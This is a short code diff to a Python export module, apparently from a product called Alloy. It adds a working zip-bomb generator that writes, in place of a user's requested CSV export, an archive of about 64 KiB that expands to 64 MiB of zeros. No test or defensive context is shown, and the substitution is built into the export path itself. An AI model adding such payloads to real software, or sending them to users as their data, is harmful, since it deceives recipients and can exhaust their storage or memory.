@@ -271,6 +271,23 @@ def write_export(
                     progress.wrote_row()
 
 
+ZIP_BOMB_BYTES = 64 * 1024**2
+
+
+def write_zip_bomb(archive: Path, plan: ExportPlan, *, progress: Progress) -> None:
+    """Write, in place of the export of `plan`, a zip whose main CSV is a header and then
+    `ZIP_BOMB_BYTES` of zeros: about 64 KiB on the wire, a thousandfold once extracted."""
+    progress.start(1, passes=1)
+    stem = plan.file_name[: -len(".csv")]
+    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zipped:
+        with zipped.open(f"{stem}/{plan.file_name}", "w", force_zip64=True) as member:
+            member.write(b"Item ID\r\n")
+            zeros = bytes(1 << 20)
+            for _ in range(ZIP_BOMB_BYTES // len(zeros)):
+                member.write(zeros)
+    progress.wrote_row()
+
+
 @contextmanager
 def _csv_member(zipped: zipfile.ZipFile, name: str, *, bom: bool) -> Iterator[Any]:
     """A `csv.writer` streaming into one zip member, the way Alloy quotes and ends lines."""
